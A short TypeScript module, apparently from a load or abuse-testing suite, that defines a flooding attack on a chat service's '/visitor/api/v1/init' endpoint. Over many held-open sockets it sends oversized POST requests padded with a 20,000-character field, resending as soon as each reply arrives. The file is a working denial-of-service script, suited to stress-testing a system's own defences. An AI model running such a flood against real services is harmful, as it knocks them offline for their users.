import type { Attack } from '../../support/attacker.ts'
import { keepOpen } from '../../support/flooding.ts'
import { requestText } from '../../support/raw-http.ts'

/** New visitors as fast as they are answered, each with as much data as a request may carry. */
export const attack: Attack = async (target) => {
  const extra = JSON.stringify({ facts: 'f'.repeat(20_000) })
  const body = JSON.stringify({ orgUid: 'df_org_uid', nickname: 'Nobody', extra })
  const init = requestText('POST /visitor/api/v1/init', { 'content-type': 'application/json' }, body)
  let answers = 0
  const counts = await keepOpen(target, { sockets: 20, addresses: 2, perSecond: 100 }, (socket) => {
    socket.setEncoding('latin1').on('data', (text: string) => {
      answers += text.split('HTTP/1.1 ').length - 1
      socket.write(init)
    })
    socket.write(init)
  })
  return { ...counts, answers }
}
